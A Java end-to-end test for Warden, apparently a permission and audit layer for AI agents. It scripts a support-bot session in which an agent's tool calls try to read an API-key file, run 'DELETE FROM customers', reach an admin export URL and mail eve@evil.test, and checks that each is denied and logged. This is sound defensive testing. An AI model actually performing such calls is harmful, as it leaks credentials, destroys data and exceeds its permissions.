package dev.warden.e2e;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.ServerSetup;
import dev.warden.testapps.model.Step;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

/**
 * One support-bot session of the LangChain4j agent, as the scripted model drives it: four tool
 * calls Warden allows (a knowledge-base file, a CRM query, the ticket API, mail to the team), four
 * it denies (a secret, erasing the CRM, an admin URL, mail outside), a count showing the CRM intact,
 * then the answer. {@link #check} asserts what the agent printed, what the model was told, what
 * the mail server received and the audit trail in order.
 */
final class LangChain4jSession implements AutoCloseable {

    static final String QUESTION = "Prepare the Q3 summary";

    final LangChain4jRun run;
    /** GreenMail on loopback, for the session's mail (none in a view of another script). */
    final GreenMail mail;
    final String deniedSecret;
    final String deniedErase = "Warden denied sql.DELETE public.customers: agents never erase data (rule no-erase)";
    final String deniedAdmin;
    final String deniedMail = "Warden denied mail.send eve@evil.test: no rule allows this (default)";

    LangChain4jSession(Path temp) throws Exception {
        this(new LangChain4jRun(temp, script(temp.toRealPath())), new GreenMail(
                new ServerSetup(0, "127.0.0.1", ServerSetup.PROTOCOL_SMTP).dynamicPort()));
        mail.start();
    }

    /** A view of another script's run (for {@link #session}). */
    LangChain4jSession(LangChain4jRun run) {
        this(run, null);
    }

    private LangChain4jSession(LangChain4jRun run, GreenMail mail) {
        this.run = run;
        this.mail = mail;
        deniedSecret = "Warden denied file.read " + run.secrets.resolve("api-key.txt") + ": secrets stay secret (rule no-secrets)";
        deniedAdmin = "Warden denied http.GET " + run.model.base() + "/admin/export: no rule allows this (default)";
    }

    private static List<Step> script(Path root) {
        return List.of(
                Step.call("readFile", "{\"path\":\"" + root.resolve("kb/q3.txt") + "\"}"),
                Step.call("queryDatabase", "{\"sql\":\"SELECT name, email FROM customers WHERE id = 1\"}"),
                Step.call("callApi", "{\"url\":\"${base}/api/tickets\"}"),
                Step.call("sendMail", "{\"to\":\"team@example.test\",\"subject\":\"Q3\",\"body\":\"Revenue grew 12%.\"}"),
                Step.call("readFile", "{\"path\":\"" + root.resolve("secrets/api-key.txt") + "\"}"),
                Step.call("queryDatabase", "{\"sql\":\"DELETE FROM customers\"}"),
                Step.call("callApi", "{\"url\":\"${base}/admin/export\"}"),
                Step.call("sendMail", "{\"to\":\"eve@evil.test\",\"subject\":\"Q3\",\"body\":\"Revenue grew 12%.\"}"),
                Step.call("queryDatabase", "{\"sql\":\"SELECT COUNT(*) AS n FROM customers\"}"),
                Step.answer());
    }

    /** The agent's arguments: the model, the SMTP server, the question. */
    List<String> args() {
        return run.args(mail.getSmtp().getPort(), "ask=" + QUESTION);
    }

    void check(ChildJvm.Result r, Path jdk) throws Exception {
        String why = r.stdout() + "\nstderr: " + r.stderr();
        // The allowed tools worked, the denied ones failed with Warden's message, as the tool saw it.
        assertEquals(List.of(
                "TOOL OK readFile: Q3 revenue grew 12%.",
                "TOOL OK queryDatabase: name=Ada Lovelace email=ada@example.test",
                "TOOL OK callApi: HTTP 200 {\"path\":\"/api/tickets\",\"open_tickets\":3,\"status\":\"green\"}",
                "TOOL OK sendMail: sent to team@example.test",
                "TOOL ERR readFile: dev.warden.agent.governor.WardenAccessDeniedException: " + deniedSecret,
                "TOOL ERR queryDatabase: java.sql.SQLException: " + deniedErase,
                "TOOL ERR callApi: java.io.IOException: " + deniedAdmin,
                "TOOL ERR sendMail: jakarta.mail.SendFailedException: " + deniedMail,
                "TOOL OK queryDatabase: n=2"),
                r.stdout().stream().filter(l -> l.startsWith("TOOL ")).toList(), why);
        assertTrue(r.line("ANSWER ").contains(deniedErase), why);
        assertEquals(0, r.exitCode(), why);

        // The model received each denial as the result of its tool call, in the next request.
        List<JsonNode> requests = run.model.chatRequests();
        assertEquals(10, requests.size(), "one request per scripted step: " + requests);
        assertEquals("Q3 revenue grew 12%.", toolResult(requests.get(1), "call_1"));
        assertEquals(deniedSecret, toolResult(requests.get(5), "call_5"));
        assertEquals(deniedErase, toolResult(requests.get(6), "call_6"));
        assertEquals(deniedAdmin, toolResult(requests.get(7), "call_7"));
        assertEquals(deniedMail, toolResult(requests.get(8), "call_8"));

        // Only the team's message was delivered.
        assertEquals(List.of("team@example.test"),
                Arrays.stream(mail.getReceivedMessages()).map(m -> {
                    try {
                        return m.getAllRecipients()[0].toString();
                    } catch (Exception e) {
                        throw new AssertionError(e);
                    }
                }).toList());

        // The audit trail holds the whole session, in order: the model's endpoint governed like any POST.
        String chat = "http.POST " + run.model.base() + "/v1/chat/completions";
        List<String> expected = new ArrayList<>(List.of(
                "allow sql.connect jdbc:h2:mem:crm;DB_CLOSE_DELAY=-1", "allow sql.CREATE public.customers",
                "allow sql.INSERT public.customers", "allow " + chat,
                "allow file.read " + run.kb.resolve("q3.txt"), "allow " + chat,
                "allow sql.SELECT public.customers", "allow " + chat,
                "allow http.GET " + run.model.base() + "/api/tickets", "allow " + chat,
                "allow mail.send team@example.test", "allow " + chat,
                "deny file.read " + run.secrets.resolve("api-key.txt"), "allow " + chat,
                "deny sql.DELETE public.customers", "allow " + chat,
                "deny http.GET " + run.model.base() + "/admin/export", "allow " + chat,
                "deny mail.send eve@evil.test", "allow " + chat,
                "allow sql.SELECT public.customers", "allow " + chat));
        assertEquals(expected, session(run.trail(jdk)));
    }

    /** The trail's records of the session's own actions (not the JVM's or another agent's, not the connects inside them). */
    List<String> session(AuditTrail trail) {
        List<String> out = new ArrayList<>();
        for (JsonNode n : trail.records) {
            String action = n.path("action").asText();
            String target = AuditTrail.targetOf(n);
            boolean ours = action.startsWith("sql.") || action.startsWith("http.") || action.equals("mail.send")
                    || (action.startsWith("file.") && (target.startsWith(run.kb.toString()) || target.startsWith(run.secrets.toString())));
            if (ours) {
                out.add(n.path("decision").asText() + " " + action + " " + target);
            }
        }
        return out;
    }

    @Override
    public void close() {
        if (mail != null) {
            mail.stop();
        }
        run.model.close();
    }

    /** The content of the {@code tool} message answering {@code callId} in a chat request. */
    static String toolResult(JsonNode request, String callId) {
        for (JsonNode m : request.path("messages")) {
            if ("tool".equals(m.path("role").asText()) && callId.equals(m.path("tool_call_id").asText())) {
                return m.path("content").asText();
            }
        }
        throw new AssertionError("no tool message for " + callId + " in " + request);
    }
}
